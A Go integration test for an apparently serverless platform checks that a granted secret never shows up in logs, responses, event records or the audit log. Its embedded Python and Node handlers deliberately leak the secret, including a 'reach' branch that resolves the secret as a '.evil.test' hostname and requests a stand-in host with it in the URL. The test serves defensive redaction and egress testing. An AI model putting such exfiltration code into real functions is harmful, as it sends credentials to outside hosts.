package bawntest

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bawn.dev/bawn"
	"bawn.dev/bawn/client"
	"bawn.dev/bawn/internal/node"
)

// Functions that give their secret away in the way that the event names.
const (
	tellsInPython = `
import base64, http.client, json, os, socket, sys, time, urllib.request

E = os.environ["BAWN_ENDPOINT"]
with open("/run/secrets/pay") as f:
    V = f.read()
B = V.encode()
print("loading with", V, flush=True)
%s

def fetch():
    ask = urllib.request.Request(E + "/secrets/pay", headers={"X-Bawn-Secret": "1"})
    return json.load(urllib.request.urlopen(ask))["value"]

def split(fd, data):
    for i in range(0, len(data), 7):
        os.write(fd, data[i:i+7])
        time.sleep(0.005)

def call(name):
    c = http.client.HTTPConnection("127.0.0.1", 9002, timeout=10)
    name, _, query = name.partition("?")
    c.request("POST", "/2015-03-31/functions/" + name + "/invocations?" + query, "{}")
    r = c.getresponse()
    r.read()
    return r.status

def handler(event, context):
    how = event["how"] if "how" in event else event["queryStringParameters"]["how"]
    assert fetch() == V
    if how == "print":
        print(V, base64.b64encode(B).decode(), B.hex(), json.dumps({"k": V}))
        print("error:", V, file=sys.stderr, flush=True)
    elif how == "split":
        for fd in (1, 2):
            split(fd, b"told " + B + b" and " + base64.b64encode(b"user:" + B) + b" and " + B.hex().encode() + b"\n")
    elif how == "unfinished": # the line never ends
        split(1, b"unfinished " + B)
    elif how == "long": # over the border of the longest line
        split(1, b"x")
        os.write(1, b"y" * (64 << 10) + B + b"z" * (256 << 10) + B + b"\n")
    elif how == "throw":
        raise ValueError("it was " + V + " " + base64.b64encode(B).decode())
    elif how == "chain":
        try:
            raise ValueError(V)
        except ValueError as e:
            raise type(V, (Exception,), {})(repr(B)) from e
    elif how == "exit":
        sys.exit("ended with " + V)
    elif how == "kill":
        os.write(2, b"dying with " + B)
        os._exit(3)
    elif how == "reach": # what is tried is recorded
        for name in (V + ".evil.test", "up.test"):
            try:
                socket.getaddrinfo(name, 80)
            except OSError:
                pass
        try:
            urllib.request.urlopen("http://up.test/" + V + "?" + V, timeout=3)
        except OSError:
            pass
        return [call(V), call("fn-" + V), call("py:" + V), call("py?Qualifier=" + V)]
    elif how == "http":
        return {"statusCode": 200, "headers": {"x-own": V, "location": "/?v=" + V}, "cookies": ["c=" + V], "body": "it is " + V}
    elif how == "http64":
        return {"statusCode": 200, "isBase64Encoded": True, "body": base64.b64encode(b"it is " + B).decode()}
    return {"how": how, "value": V, "base64": base64.b64encode(B).decode(), "inner": base64.b64encode(b"ab" + B).decode(), "hex": B.hex(), V: [V] * 3}
`
	tellsInNode = `
const fs = require('fs');
const V = fs.readFileSync('/run/secrets/pay', 'utf8');
const B = Buffer.from(V);
const pause = () => new Promise((ok) => setTimeout(ok, 5));
exports.answers = async (event) => {
  console.log('told', V, B.toString('base64'), { deep: { value: V } });
  console.error(new Error(V));
  if (event.how === 'throw') throw new Error('it was ' + V);
  if (event.how === 'reject') return Promise.reject(V);
  if (event.how === 'crash') { setTimeout(() => { throw new Error('late ' + V); }, 1); await pause(); await pause(); }
  return { value: V, base64: B.toString('base64url'), hex: B.toString('hex') };
};
exports.streams = awslambda.streamifyResponse(async (event, stream) => {
  stream.setContentType('text/plain');
  stream.write('begin ');
  for (const text of [V, B.toString('base64'), B.toString('hex'), encodeURIComponent(V)]) {
    for (let i = 0; i < text.length; i += 5) {
      stream.write(text.slice(i, i + 5));
      await pause();
    }
    stream.write('\n');
  }
  if (event.how === 'fail') throw new Error('in the middle: ' + V);
  stream.write('end');
  stream.end();
});
`
)

// tells returns what of text is the secret, in any form that is promised.
func tells(text, value string) string {
	low := strings.ToLower(text)
	forms := []string{value, hex.EncodeToString([]byte(value)), strings.ToLower(url.QueryEscape(value))}
	for _, f := range forms {
		if strings.Contains(low, f) {
			return f
		}
	}
	for skip := range 3 {
		enc := base64.RawURLEncoding.EncodeToString([]byte(strings.Repeat("x", skip) + value))
		if f := enc[(skip*8+5)/6 : len(enc)-1]; strings.Contains(strings.NewReplacer("+", "-", "/", "_").Replace(text), f) {
			return f
		}
	}
	return ""
}

// TestE5NothingTellsASecret has functions print, return, throw and stream the secret
// that they were granted: none of it is in their log, its tail, the records, any
// answer, the audit log or what the node prints. Controls E5 and D7.
func TestE5NothingTellsASecret(t *testing.T) {
	var own tail
	n := NewNode(t, func(c *node.Config) {
		c.EgressResolve = []string{"up.test=127.0.0.1"}
		c.Log = slog.New(slog.NewTextHandler(&own, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	n.NeedSandbox()
	ctx := t.Context()
	value := "k3y" + strings.ToLower(rand.Text()) // a name may have it
	if _, err := n.CreateSecret(ctx, "pay", []byte(value)); err != nil {
		t.Fatal(err)
	}
	check := func(where, text string) {
		t.Helper()
		if f := tells(text, value); f != "" {
			at := strings.Index(strings.ToLower(text), strings.ToLower(f))
			t.Errorf("%s tells %q: …%.200q", where, f, text[max(0, at-60):])
		}
	}
	// The search finds each form.
	for _, text := range []string{value, base64.StdEncoding.EncodeToString([]byte("user:" + value)), hex.EncodeToString([]byte(value))} {
		if tells(text, value) == "" {
			t.Fatalf("%q is not found", text)
		}
	}
	deploy := func(n *Node, name, handler string, run bawn.Runtime, files map[string]string) {
		n.t.Helper()
		n.MustDeploy(name, map[string]any{
			"runtime": string(run), "handler": handler, "interior": map[string]any{"timeout": "1m", "reuse": map[string]any{"maxAge": "1h"}},
			"ingress": map[string]any{"http": []any{map[string]any{"method": "GET", "path": "/" + name, "access": "key"}}},
			"egress": map[string]any{
				"secrets": []any{map[string]any{"name": "pay", "file": true}}, "functions": []string{"other"},
				"hosts":    []any{map[string]any{"host": "up.test", "methods": []string{"GET"}, "paths": []string{"/only/*"}}},
				"response": map[string]any{"headers": []string{"content-type", "x-own", "location", "set-cookie"}},
			},
		}, files)
		if _, err := n.GrantSecret(ctx, "pay", name); err != nil {
			n.t.Fatal(err)
		}
	}
	public := func(where, method, path string, body []byte, header ...string) string {
		t.Helper()
		req, err := http.NewRequestWithContext(ctx, method, n.Public()+path, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+n.Context.Key)
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		res, err := n.HTTP.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		data, err := io.ReadAll(res.Body)
		if err != nil {
			t.Fatal(err)
		}
		head := fmt.Sprint(res.Status, res.Header, res.Trailer)
		check(where+": the head", head)
		check(where+": the body", string(data))
		if text := res.Header.Get("X-Amz-Log-Result"); text != "" {
			log, err := base64.StdEncoding.DecodeString(text)
			if err != nil {
				t.Fatal(err)
			}
			check(where+": the tail", string(log))
			return "tail " + string(log)
		}
		return head + string(data)
	}
	// every calls a function in each way there is, and wants all answers to hold want.
	every := func(name, how, want string) {
		t.Helper()
		event, _ := json.Marshal(map[string]string{"how": how})
		inv, err := n.Invoke(ctx, name, "", event)
		if err != nil {
			t.Fatalf("%s %s: %v", name, how, err)
		}
		data, _ := io.ReadAll(inv.Body) // an error is what a stream may end in
		inv.Body.Close()
		check(name+" "+how, string(data))
		if !strings.Contains(string(data), want) {
			t.Errorf("%s %s: %.300q has no %q", name, how, data, want)
		}
		out := public(name+" "+how+" by Lambda's API", "POST", "/2015-03-31/functions/"+name+"/invocations", event, "X-Amz-Log-Type", "Tail")
		if name != "broken" && (!strings.HasPrefix(out, "tail ") || len(out) < 100) {
			t.Errorf("%s %s: no tail: %.200q", name, how, out)
		}
		public(name+" "+how+" by its route", "GET", "/"+name+"?how="+how, nil)
	}

	// Whoever follows sees the same as whoever reads.
	following, stop := context.WithCancel(ctx)
	followed := make(chan string, 1<<12)
	done := make(chan struct{})
	go func() {
		defer close(done)
		n.Events(following, client.EventQuery{Follow: true}, func(r bawn.Record) error {
			b, _ := json.Marshal(r)
			select {
			case followed <- string(b):
			default:
			}
			return nil
		})
	}()

	var names []string
	t.Run("python", func(t *testing.T) {
		m := *n
		m.t = t
		run := m.NeedRuntime(Pythons()...)
		deploy(&m, "py", "app.handler", run, map[string]string{"app.py": fmt.Sprintf(tellsInPython, "")})
		deploy(&m, "broken", "app.handler", run, map[string]string{"app.py": fmt.Sprintf(tellsInPython, `raise RuntimeError("not with " + V)`)})
		names = append(names, "py", "broken")
		for how, want := range map[string]string{
			"return": `"how"`, "print": `"how"`, "split": `"how"`, "unfinished": `"how"`, "long": `"how"`, "throw": "it was", "chain": "errorType",
			"exit": "", "kill": "", "reach": "[", "http": "it is", "http64": "isBase64Encoded",
		} {
			every("py", how, want)
		}
		if out := public("a body in base64", "GET", "/py?how=http64", nil); !strings.Contains(out, "it is ") {
			t.Errorf("the body was lost: %s", out)
		}
		every("broken", "return", "not with")
	})
	t.Run("node", func(t *testing.T) {
		m := *n
		m.t = t
		run := m.NeedRuntime(Nodes()...)
		deploy(&m, "js", "app.answers", run, map[string]string{"app.js": tellsInNode})
		deploy(&m, "stream", "app.streams", run, map[string]string{"app.js": tellsInNode})
		names = append(names, "js", "stream")
		for how, want := range map[string]string{"return": `"value"`, "throw": "it was", "reject": "", "crash": ""} {
			every("js", how, want)
		}
		every("stream", "all", "end")
		every("stream", "fail", "begin")
	})
	if len(names) == 0 {
		t.Skip("SKIP: no runtime to try it with")
	}

	for _, name := range names {
		lines, told := 0, 0
		if err := n.Logs(ctx, name, client.LogQuery{Limit: 1000}, func(l bawn.LogLine) error {
			lines++
			if strings.Contains(l.Text, "[secret]") {
				told++
			}
			b, _ := json.Marshal(l)
			check("the log of "+name, l.Text)
			check("the log of "+name+" as JSON", string(b))
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		if lines < 5 || told == 0 && name != "stream" {
			t.Errorf("%s: %d lines, %d of them redacted", name, lines, told)
		}
	}
	records := 0
	if err := n.Events(ctx, client.EventQuery{Limit: 1000}, func(r bawn.Record) error {
		records++
		b, _ := json.Marshal(r)
		check("a record", string(b))
		return nil
	}); err != nil || records < 20 {
		t.Errorf("%d records, %v", records, err)
	}
	stop()
	<-done
	close(followed)
	seen := 0
	for text := range followed {
		seen++
		check("a record that was followed", text)
	}
	if seen < 20 {
		t.Errorf("%d records were followed", seen)
	}
	// What is on the disk of the audit log is what anybody may read of it.
	time.Sleep(1200 * time.Millisecond) // for the newest entries to be written
	size := 0
	if err := filepath.WalkDir(filepath.Join(n.Data, "audit"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		size += len(data)
		check("the audit log", string(data))
		return err
	}); err != nil || size < 10<<10 {
		t.Errorf("%d bytes of the audit log, %v", size, err)
	}
	n.Stop()
	check("what the node printed", own.String())
}
